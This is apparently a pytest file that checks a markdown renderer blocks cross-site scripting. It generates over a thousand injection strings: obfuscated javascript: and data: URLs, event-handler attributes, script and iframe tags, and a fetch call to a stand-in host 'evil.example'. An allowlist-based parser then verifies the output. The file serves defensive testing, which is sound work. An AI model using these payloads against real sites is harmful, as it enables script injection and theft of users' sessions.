"""Whatever is written in a body, nothing of what is shown of it can run."""

import re
from html.parser import HTMLParser
from itertools import product

from touchline.domain.content.rendering import ATTRIBUTES, SCHEMES, TAGS, render

CALLS = ("alert(1)", "fetch('//evil.example')")
TARGETS = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
    ),
    *("&#106;avascript:alert(1)", "javascript&colon;alert(1)", "&#x6A&#x61vascript:alert(1)"),
    *("\x01javascript:alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)", "%6aavascript:x"),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "file:///x",
    ),
    *("javascript://host/%0aalert(1)", "feed:javascript:alert(1)", "blob:https://a/b", "x-y:z"),
)
LINKS = (
    *(
        "[a]({})",
        "![a]({})",
        "[a](<{}>)",
        "<{}>",
        "[a]: {}\n\n[a]",
        '[a]({} "t")',
        "![a][b]\n\n[b]: {}",
    ),
    *('<a href="{}">a</a>', "<a href={}>a</a>", "<img src='{}'>", '<iframe src="{}"></iframe>'),
    *(
        '<form action="{}"><button>a</button></form>',
        '<object data="{}"></object>',
        '<base href="{}">',
    ),
    *('<svg><a xlink:href="{}">a</a></svg>', '<math href="{}">a</math>', '<embed src="{}">'),
    *('<meta http-equiv="refresh" content="0;url={}">', '<link rel=stylesheet href="{}">'),
)
TAG_NAMES = (
    *("script", "SCRIPT", "scr\x00ipt", "img", "svg", "body", "details open", "video", "iframe"),
    *("input autofocus", "math", "style", "a", "p", "table", "object", "noscript", "template"),
)
HANDLERS = (
    "onerror",
    "ONLOAD",
    "onmouseover",
    "ontoggle",
    "onfocus",
    "formaction",
    "style",
    "srcdoc",
)
SHAPES = (
    *(
        "<{tag} {on}={call}>",
        '<{tag} {on}="{call}"></{tag}>',
        "<{tag}/{on}='{call}'/>",
        "<<{tag} {on}={call}//",
    ),
    *(
        '`<{tag} {on}="{call}">`',
        '[<{tag} {on}="{call}">](https://a.example)',
        "# <{tag}>{call}</{tag}>",
    ),
    '[a](https://a.example "x\\" {on}={call} <{tag}>")',
)
FENCES = (
    "```<img src=x onerror=alert(1)>\na\n```",
    '``` "onmouseover=alert(1)\na\n```',
    "|<svg onload=alert(1)>|\n|-|\n|a|",
)


def corpus() -> list[str]:
    """Well over a thousand ways to smuggle something in."""
    made = [link.format(target) for link, target in product(LINKS, TARGETS)]
    made += [
        shape.format(tag=tag, on=on, call=call)
        for shape, tag, on, call in product(SHAPES, TAG_NAMES, HANDLERS, CALLS)
    ]
    return [*made, *FENCES]


class _Reader(HTMLParser):
    """What a browser would make of a page: every tag, its attributes and what they lead to."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()):
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src"):
                self._follow(value or "")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(decl)

    def handle_pi(self, data: str) -> None:
        self.faults.append(data)

    def _follow(self, address: str) -> None:
        plain = re.sub(r"[\x00-\x20]", "", address).lower()
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
        if scheme and scheme[1] not in SCHEMES:
            self.faults.append(address)


def faults_of(html: str) -> list[str]:
    """Whatever stands in a page that is not on the list."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.faults


def test_nothing_that_is_smuggled_in_can_run() -> None:
    tried = corpus()
    assert len(set(tried)) > 1_000
    assert {text: found for text in tried if (found := faults_of(render(text)))} == {}


def test_the_judge_of_this_test_sees_what_would_run() -> None:
    assert faults_of("<p><script>x</script></p>") == ["script"]
    assert faults_of('<img src="java&#10;script:x" onerror="y">') == [
        "java\nscript:x",
        "img onerror",
    ]


def test_what_marketers_write_is_shown() -> None:
    written = (
        "# Air\n\nKnow *the* **air** ~~now~~, [here](https://a.example/b?c=1&d=2).\n\n"
        '1. one\n2. two\n\n![A room](https://a.example/r.png "A room")\n\n'
        "| a | b |\n|---|---|\n| `c` | d |\n\n> said\n\n<b>5 < 6</b>"
    )
    assert render(written) == (
        "<h1>Air</h1>\n<p>Know <em>the</em> <strong>air</strong> <s>now</s>, "
        '<a href="https://a.example/b?c=1&amp;d=2" rel="noopener noreferrer">here</a>.</p>\n'
        "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n"
        '<p><img src="https://a.example/r.png" alt="A room" title="A room"></p>\n'
        "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td><code>c</code></td>\n<td>d</td>\n</tr>\n</tbody>\n</table>\n"
        "<blockquote>\n<p>said</p>\n</blockquote>\n<p>&lt;b&gt;5 &lt; 6&lt;/b&gt;</p>\n"
    )
